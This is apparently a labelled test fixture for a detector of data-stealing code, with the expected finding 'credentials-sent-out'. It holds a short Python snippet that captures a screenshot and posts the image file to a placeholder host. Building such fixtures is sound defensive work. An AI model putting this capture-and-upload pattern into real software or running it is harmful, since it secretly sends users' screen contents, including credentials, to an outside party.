# expect: 5 credentials-sent-out
import mss, requests
with mss.mss() as s:
    f = s.shot()
requests.post('https://h.invalid', files={'f': open(f, 'rb')})
